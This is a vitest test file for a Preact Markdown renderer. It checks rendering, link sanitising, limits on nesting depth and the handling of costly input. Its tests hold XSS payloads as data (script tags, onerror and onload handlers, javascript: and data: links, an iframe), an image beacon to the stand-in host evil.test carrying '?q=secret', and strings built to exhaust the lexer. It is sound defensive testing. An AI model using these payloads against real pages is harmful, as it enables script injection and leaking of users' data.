/** Text of models as nodes: what people expect of Markdown, and that hostile text stays text and takes no time. */
import type { ComponentChildren, VNode } from "preact";
import { describe, expect, it } from "vitest";
import { GrowingBlocks } from "./blocks.ts";
import { cutNesting, DEEPEST, LONGEST, lex, type Token } from "./lex.ts";
import { blocksAsNodes, safeAddress } from "./markdown.tsx";

interface Element {
  readonly name: string;
  readonly props: Record<string, unknown>;
}

/** Elements and texts that a tree of nodes draws, components without state called. */
function drawn(node: ComponentChildren, elements: Element[] = [], texts: string[] = []) {
  if (Array.isArray(node)) for (const each of node) drawn(each, elements, texts);
  else if (typeof node === "string" || typeof node === "number") texts.push(String(node));
  else if (node && typeof node === "object" && "type" in node) {
    const { type, props } = node as VNode<{ children?: ComponentChildren; code?: string; text?: string }>;
    if (typeof type === "string") {
      elements.push({ name: type, props: props as Record<string, unknown> });
      drawn(props.children, elements, texts);
    } else if (props.code !== undefined) texts.push(`code:${props.code}`);
    else if ("display" in props) texts.push(`formula:${props.text}`);
    else if (type.name === "" || props.children === undefined || /^[A-Z]/.test(type.name))
      drawn((type as (given: unknown) => ComponentChildren)(props), elements, texts);
    else drawn(props.children, elements, texts);
  }
  return { elements, texts };
}

/** `Markdown` holds what it lexed by a hook, which needs a page: its blocks are drawn here. */
function nodesOf(text: string) {
  return drawn(blocksAsNodes(lex(text)));
}

const depthOf = (tokens: readonly Token[] | undefined): number =>
  Math.max(
    0,
    ...(tokens ?? []).map((token) => {
      const items = token.type === "list" ? (token.items as Token[]) : [token];
      return 1 + Math.max(...items.map((item) => depthOf((item as { tokens?: Token[] }).tokens)));
    }),
  );

describe("Markdown as nodes", () => {
  it("draws headings, lists, tables, code, formulas and links", async () => {
    const { elements, texts } = nodesOf(
      "# Big\n\nA **b** *c* ~~d~~ `e` \\(x^2\\), $5 and $6; $y_1$.\n\n$$\nz\n$$\n\n- one\n- [x] two\n\n3. three\n\n" +
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```ts\nlet x;\n```\n\n[site](https://a.example/b?c=1&amp;d)",
    );
    const names = elements.map(({ name }) => name);
    for (const name of ["h3", "strong", "em", "del", "code", "ul", "ol", "input", "table", "td", "a"])
      expect(names).toContain(name);
    expect(texts).toContain("code:let x;");
    expect(texts.filter((text) => text.startsWith("formula:"))).toEqual([
      "formula:x^2",
      "formula:y_1",
      "formula:z",
    ]);
    expect(texts.join("")).toContain(", $5 and $6; ");
    expect(elements.find(({ name }) => name === "ol")!.props.start).toBe(3);
    expect(elements.find(({ name }) => name === "a")!.props.rel).toBe("noopener noreferrer");
  });

  it("never makes anything but its own elements of hostile text", async () => {
    const hostile = [
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<svg onload=alert(1)>",
      "a <b onclick=x>b</b>",
      "[run](javascript:alert(1)) [data](data:text/html,x) [up](JAVASCRIPT:x)",
      "![steal](http://evil.test/?q=secret) ![x][y]\n\n[y]: http://evil.test",
      "<iframe src=//evil.test></iframe>",
      "$\\href{javascript:alert(1)}{x}$",
      "```\nunclosed <script>",
    ].join("\n\n");
    const { elements, texts } = nodesOf(hostile);
    expect(elements.map(({ name }) => name).filter((name) => /script|img|svg|iframe|^b$/.test(name))).toEqual(
      [],
    );
    for (const { props } of elements) {
      expect(Object.keys(props).filter((key) => /^(src|srcdoc|dangerously|on(?!Click))/.test(key))).toEqual(
        [],
      );
      if (typeof props.href === "string") expect(props.href).toMatch(/^https?:/);
    }
    const links = elements.filter(({ name }) => name === "a").map(({ props }) => props.href);
    expect(links).toEqual(["http://evil.test/?q=secret", "http://evil.test/"]);
    expect(texts.join("")).toContain("<script>alert(1)</script>");
    expect(texts.join("")).toContain("picture: ");
  });

  it("opens only addresses of the web and of mail", () => {
    expect(safeAddress("https://a.example")).toBe("https://a.example/");
    for (const bad of [
      "javascript:alert(1)",
      " javascript:x",
      "java\nscript:x",
      "data:text/html,x",
      "//a.example",
      "/a",
      "file:///etc",
      "https://[",
    ])
      expect(safeAddress(bad), bad).toBe(null);
  });

  it("cuts nesting before it lexes", () => {
    expect(cutNesting(`${"> ".repeat(3)}a\n- b`)).toBe(`${"> ".repeat(3)}a\n- b`);
    expect(cutNesting(`${">".repeat(10_000)} a`)).toBe(`${">".repeat(DEEPEST)}a`);
    const lists = Array.from({ length: 600 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n");
    for (const text of [`${">".repeat(10_000)} a`, lists, `${"- ".repeat(3000)}a`, `${"> - ".repeat(2000)}a`])
      expect(depthOf(lex(text))).toBeLessThan(4 * DEEPEST);
  });

  it("shows as it was written what would take too long", () => {
    const costly = {
      emphasis: "*a ".repeat(5000) + "b* ".repeat(5000),
      underscores: "_a_".repeat(20_000),
      ticks: "`a``".repeat(20_000),
      links: "[a](".repeat(20_000),
      items: "- a\n".repeat(40_000),
      long: "word ".repeat(LONGEST / 5 + 1),
    };
    for (const [name, text] of Object.entries(costly)) {
      expect(lex(text), name).toEqual([{ type: "raw", raw: text, text }]);
    }
    expect(lex("**a** `b` [c](http://d) _e_ ".repeat(100))[0].type).toBe("paragraph");
  });

  it("lexes growing text as it does whole text, and keeps what is frozen", () => {
    const whole = Array.from(
      { length: 60 },
      (_, i) => `Paragraph ${i} with **words**.\n\n- a\n- b\n\n\`\`\`\ncode ${i}\n\`\`\`\n`,
    ).join("\n");
    const growing = new GrowingBlocks();
    let blocks = growing.update("");
    let first: unknown = null;
    for (let at = 0; at <= whole.length + 6; at += 7) {
      blocks = growing.update(whole.slice(0, at));
      if (first === null && blocks.frozen.length > 1) first = blocks.frozen[0];
    }
    expect(blocks.frozen[0]).toBe(first);
    const visible = (tokens: readonly Token[]) =>
      tokens.filter(({ type }) => type !== "space").map(({ raw }) => raw.trim());
    expect(visible([...blocks.frozen.flat(), ...blocks.open])).toEqual(visible(lex(whole)));
    expect(growing.update("Another text").frozen).toEqual([]);
  });
});
